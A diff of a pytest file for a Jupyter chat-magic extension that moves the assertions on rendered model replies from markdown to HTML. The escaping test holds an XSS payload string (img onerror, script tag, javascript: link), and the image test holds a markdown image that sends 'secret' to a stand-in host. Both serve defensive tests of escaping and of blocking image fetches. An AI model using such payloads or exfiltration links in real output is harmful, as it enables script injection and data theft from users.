@@ -17,6 +17,7 @@ from jupyter_providers import client as client_module
 from jupyter_providers.conversation import get_conversation, reset_conversations
 from jupyter_providers.magics import ChatMagics
 
+from ._shown import shown_html, shown_text
 from .conftest import LOCAL_KEY
 from .fakes import FakeServer
 
@@ -59,15 +60,18 @@ def run(shell: InteractiveShell, line: str, cell: str) -> Captured:
     return Captured(cap)
 
 
-def markdown_of(cap: Captured) -> str:
-    return "".join(o.data.get("text/markdown", "") for o in cap.outputs)
+def shown_of(cap: Captured) -> str:
+    """The text a person reads in the cell's rich output (text/html; never text/markdown)."""
+    return shown_text(cap.outputs)
 
 
 def test_streams_then_renders_markdown(shell: InteractiveShell, magics: ChatMagics, fake: FakeServer) -> None:
     cap = run(shell, "--provider Claude --model claude-x", "What is the capital of France?")
     assert cap.stdout == REPLY  # streamed as it arrived
-    md = markdown_of(cap)
-    assert md.startswith(REPLY) and "Claude · claude-x" in md
+    shown = shown_of(cap)
+    assert shown.startswith("Paris is the capital of France.") and "Claude · claude-x" in shown
+    html = shown_html(cap.outputs)
+    assert "<strong>capital</strong>" in html and "<em>Claude · claude-x" in html  # rendered, with the footer
     assert cap.stderr == ""
 
 
@@ -143,7 +147,7 @@ def test_midstream_error_keeps_partial(shell: InteractiveShell, magics: ChatMagi
     fake.fault = "midstream_error"
     cap = run(shell, "-p Claude", "hi")
     assert cap.stdout == "Paris is "  # two pieces arrived
-    assert markdown_of(cap).startswith("Paris is") and "interrupted by an error" in markdown_of(cap)
+    assert shown_of(cap).startswith("Paris is") and "interrupted by an error" in shown_of(cap)
     assert cap.stderr.startswith("Claude: server error")
     conv = get_conversation("Claude", "claude-x")
     assert conv is not None and conv.turns[-1].status == "error" and conv.turns[-1].reply == "Paris is "
@@ -155,7 +159,7 @@ def test_ctrl_c_keeps_partial_and_the_kernel(shell: InteractiveShell, magics: Ch
     start = time.perf_counter()
     cap = run(shell, "-p Claude", "hi")
     assert time.perf_counter() - start < 10
-    assert "stopped" in markdown_of(cap) and markdown_of(cap).startswith("Paris is")
+    assert "stopped" in shown_of(cap) and shown_of(cap).startswith("Paris is")
     conv = get_conversation("Claude", "claude-x")
     assert conv is not None and conv.turns[-1].status == "stopped" and conv.turns[-1].reply == "Paris is "
     fake.fault = None
@@ -192,18 +196,21 @@ def test_format_code_and_text(shell: InteractiveShell, magics: ChatMagics, store
     with FakeServer("openai", models=["m"], reply="Here:\n```python\nprint(1)\n```\nDone.") as srv:
         store.add("F", base_url=srv.base_url, api_key="", models=["m"])
         cap = run(shell, "-p F --format code --no-stream", "code please")
-        assert markdown_of(cap).startswith("```python\nprint(1)\n```")
+        html = shown_html(cap.outputs)
+        assert "<code>print(1)</code></pre>" in html and "Here:" not in html  # the code block alone, as code
+        assert shown_of(cap).startswith("python")
         cap = run(shell, "-p F --format text", "text please")
-        assert all("text/markdown" not in o.data for o in cap.outputs)
+        assert shown_html(cap.outputs) == "" and cap.stdout.startswith("Here:\n```python")
 
 
 def test_html_in_replies_is_escaped(shell: InteractiveShell, magics: ChatMagics, store: ProviderStore) -> None:
     evil = "Hi <img src=x onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1))"
     with FakeServer("openai", models=["m"], reply=evil) as srv:
         store.add("E", base_url=srv.base_url, api_key="", models=["m"])
-        md = markdown_of(run(shell, "-p E", "hi"))
-    assert "<img" not in md and "<script" not in md and "javascript:" not in md
-    assert "&lt;img" in md
+        cap = run(shell, "-p E", "hi")
+    html = shown_html(cap.outputs)
+    assert "<img" not in html and "<script" not in html and "href" not in html
+    assert "&lt;img" in html and shown_of(cap).startswith(evil)  # shown as written
 
 
 def test_default_provider_from_config(shell: InteractiveShell, magics: ChatMagics, fake: FakeServer) -> None:
@@ -276,14 +283,15 @@ def test_load_ext_registers_and_yields_chat_to_another_owner(shell: InteractiveS
 def test_images_in_replies_are_not_fetched(shell: InteractiveShell, magics: ChatMagics, store: ProviderStore) -> None:
     with FakeServer("openai", models=["m"], reply="Look ![chart](https://example.invalid/leak?d=secret)") as srv:
         store.add("I", base_url=srv.base_url, api_key="", models=["m"])
-        md = markdown_of(run(shell, "-p I", "hi"))
-    assert "![chart]" not in md and "!\\[chart]" in md
+        cap = run(shell, "-p I", "hi")
+    assert "<img" not in shown_html(cap.outputs) and "example.invalid" not in shown_html(cap.outputs)
+    assert "[image: chart]" in shown_of(cap)
 
 
 def test_long_reply_sends_markdown_once_and_a_bounded_plain_copy(
     shell: InteractiveShell, magics: ChatMagics, store: ProviderStore
 ) -> None:
-    from jupyter_providers.magics import PLAIN_CHARS
+    from jupyter_providers._chat_view import PLAIN_CHARS
 
     long = "word " * 3000  # 15,000 characters
     with FakeServer("openai", models=["m"], reply=long) as srv:
@@ -292,7 +300,7 @@ def test_long_reply_sends_markdown_once_and_a_bounded_plain_copy(
         quiet = run(shell, "-p L --no-stream --new", "hi")
         text = run(shell, "-p L --new --format text", "hi")
     assert cap.stdout == long  # the whole reply streamed
-    assert markdown_of(cap).startswith(long.rstrip())  # and rendered whole
+    assert shown_of(cap).startswith(long.rstrip())  # and rendered whole
     plain = cap.outputs[-1].data["text/plain"]
     assert plain.startswith(long[:PLAIN_CHARS]) and len(plain) < PLAIN_CHARS + 120
     assert f"{len(long) - PLAIN_CHARS:,} more characters (printed above while it streamed" in plain
